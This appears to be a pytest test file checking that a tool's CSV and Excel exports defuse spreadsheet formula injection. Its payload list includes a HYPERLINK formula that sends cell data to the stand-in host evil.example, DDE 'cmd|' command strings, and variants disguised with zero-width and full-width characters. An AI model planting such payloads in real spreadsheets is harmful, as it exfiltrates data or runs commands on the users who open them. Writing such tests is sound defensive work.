"""Hostile text (issue 13 points 3-4): nothing a user or an import wrote leaves the tool as a live
formula (CSV from the command line, both workbooks), numbers stay numbers."""
from __future__ import annotations

import contextlib
import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from opportunity_engine import cli, formatting
from opportunity_engine.store import db

# The probe's payloads and their disguises: leading spaces, zero-width characters, full-width forms.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "   =1+1", "\u200b=1+1", "\ufeff+1", "\u00a0@x", "＝1+1", "＋cmd|' /C calc'!A0",
            "－2+3", "＠SUM(1)", " \u200b ＝HYPERLINK(\"x\")"]
HARMLESS = ["Emergency and Acute Medicine", "A&E", "e-mail", "5 - 3 = 2", "T&O (trauma)", ""]


def live(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? Written independently of safe_text: drop
    what a spreadsheet may skip, fold full-width forms, look at the first character."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    skipped = "".join(ch for ch in cell if ch not in " \u00a0\u200b\u200c\u200d\u2060\ufeff\u3000")
    first = skipped[:1]
    return bool(first) and first in "=+-@＝＋－＠"


@pytest.mark.parametrize("text", FORMULAS)
def test_every_payload_is_neutralised_and_keeps_its_text(text):
    out = formatting.safe_text(text)
    assert live(text) and out == "'" + text  # prefixed, nothing else changed


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert formatting.safe_text(text) == text and not live(text)


def test_safe_frame_keeps_numbers_numbers():
    import pandas as pd

    frame = pd.DataFrame({"name": ["=1+1", "ok", None], "gbp": [-1200.5, 3.0, float("nan")], "n": [-1, 2, 3]})
    out = formatting.safe_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1+1", "ok"] and out["name"].isna().tolist()[2]
    assert out["gbp"].dtype == frame["gbp"].dtype and out["gbp"].tolist()[:2] == [-1200.5, 3.0]
    assert out["n"].tolist() == [-1, 2, 3]
    assert frame["name"].tolist()[0] == "=1+1"  # the caller's frame is not changed


def _plant(con, texts: list[str]) -> None:
    """Imported CSU and specialty names carry the payloads (as a hostile extract would)."""
    csus = [r[0] for r in con.execute("SELECT csu_code FROM csus ORDER BY 1").fetchall()]
    for code, text in zip(csus, texts):
        con.execute("UPDATE csus SET csu_name = ? WHERE csu_code = ?", [text + " csu", code])
    specs = [r[0] for r in con.execute("SELECT specialty_code FROM specialties ORDER BY 1").fetchall()]
    for i, code in enumerate(specs):
        con.execute("UPDATE specialties SET specialty_name = ? WHERE specialty_code = ?",
                    [FORMULAS[i % len(FORMULAS)], code])
    db.bump_data_version(con)  # names are cached per data version, as after a real import


def test_the_cli_csv_has_no_live_formula_and_numbers_stay_numbers(demo_copy):
    with db.connect(demo_copy) as con:
        _plant(con, FORMULAS)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert cli.main(["opportunities", "--db", str(demo_copy), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    header, body = rows[0], rows[1:]
    assert body and len(body[0]) == len(header)
    bad = [cell for row in body for cell in row if live(cell) and not _number(cell)]
    assert bad == []
    names = {row[header.index("specialty_name")] for row in body}
    assert names & {"'" + f for f in FORMULAS}  # the payloads arrived, prefixed
    gbp = header.index("opportunity_gbp")
    assert all(_number(row[gbp]) for row in body)  # money is still a plain number


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_both_workbooks_have_no_live_text(demo_copy):
    from opportunity_engine.analysis.opportunities import Basis
    from opportunity_engine.delivery import plans, qia, schemes
    from opportunity_engine.reports.export import opportunities_workbook
    from opportunity_engine.reports.export_plans import plans_workbook
    from opportunity_engine.scope import Scope
    from opportunity_engine.users import User

    with db.connect(demo_copy) as con:
        _plant(con, FORMULAS)
        fin = User("fin", "＝HYPERLINK(\"x\")", "", "finance", ())
        csu = con.execute("SELECT min(csu_code) FROM csus").fetchone()[0]
        fy = 2026
        for evil in FORMULAS:
            s = schemes.create(con, fin, "x " + evil, csu, description=evil, lead=evil)
            s = schemes.update(con, fin, s.scheme_id, s.version, title=evil.strip() or "t", status="shortlisted")
            plans.save_plan(con, fin, s.scheme_id, s.version, fy, 1, 1200, milestones=evil)
            s = schemes.get(con, fin, s.scheme_id)
            qia.save_scores(con, fin, s.scheme_id, s.version, {d: (2, 2, evil) for d in qia.DOMAINS})
        plans.set_wrp_target(con, fin, csu, fy, 1000, "\u200b=cmd|' /C calc'!A0")
        books = {"opportunities": opportunities_workbook(con, Scope.trust(), Basis(), fin.name,
                                                         now=datetime(2026, 1, 2)),
                 "plans": plans_workbook(con, fin, fy)}
    for name, data in books.items():
        book = load_workbook(io.BytesIO(data))
        texts = [(ws.title, c.coordinate, c.value) for ws in book.worksheets for row in ws.iter_rows()
                 for c in row if isinstance(c.value, str) and c.data_type == "s"]
        assert texts
        bad = [t for t in texts if live(t[2])]
        assert bad == [], (name, bad[:5])
        assert any(v.startswith("'") and "HYPERLINK" in v for _, _, v in texts), name
